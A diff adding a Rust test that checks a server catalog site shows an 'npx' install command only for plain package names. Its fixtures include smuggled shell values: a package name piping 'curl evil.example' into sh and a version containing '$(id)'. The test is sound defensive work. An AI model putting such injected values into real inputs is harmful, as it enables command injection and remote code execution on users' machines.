@@ -57,6 +57,25 @@ impl Drop for Catalog {
 }
 
 #[test]
+fn a_command_is_shown_of_plain_packages_only() {
+    let catalog = Catalog::new("command");
+    assert!(catalog.get("/server/~40acme~2ffiles").contains("npx -y @acme/files@1.2.0"));
+    for (name, package, version) in [("a", "x; curl evil.example | sh", "1.0.0"), ("b", "x", "1$(id)"), ("c", "owner/x", "1.0.0")]
+    {
+        let path = catalog.directory.join("more.json");
+        let capture = json!({"server": name, "package": package, "registry": "npm", "version": version, "tools": []});
+        std::fs::write(&path, capture.to_string()).unwrap();
+        import(&catalog.directory.join("more.db"), &[path], "2026-01-15T10:30:00Z".parse().unwrap(), &mut |_| {}).unwrap();
+    }
+    let collection = Collection::open(&catalog.directory.join("more.db")).unwrap();
+    for name in ["a", "b", "c"] {
+        let page = Site::of(&collection, Form::Served).answer(&format!("/server/{name}"), "").unwrap();
+        assert_eq!(page.status, 200, "{name}");
+        assert!(!page.body.contains("npx"), "{}", page.body);
+    }
+}
+
+#[test]
 fn a_tools_page_says_what_it_may_do_and_why_and_what_to_do() {
     let catalog = Catalog::new("tool");
     let page = catalog.get("/server/~40acme~2ffiles/delete_file");
